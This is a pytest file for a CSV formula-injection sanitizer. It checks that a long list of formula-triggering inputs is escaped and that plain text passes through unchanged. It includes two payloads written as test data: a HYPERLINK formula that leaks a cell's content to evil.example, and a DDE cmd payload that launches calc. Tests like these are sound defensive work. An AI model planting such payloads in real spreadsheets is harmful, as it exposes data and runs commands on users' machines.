"""Cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import pytest

from emban.kit.csv_cells import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\n=x",
        "  =1",
        "\t=1",
        '"=1',
        "'=1",
        "''  \"=1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b=1",
        "\x00=1",
        "“=1",
        "＝1",  # noqa: RUF001
        " ＠SUM(A1)",  # noqa: RUF001
        '=HYPERLINK("https://evil.example?x="&A1)',
        "-2+3+cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", " ", "'", "gpt-4", "a=1", "1+1", "it's", "user@acme.example", "'quoted'", "3 > 2"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
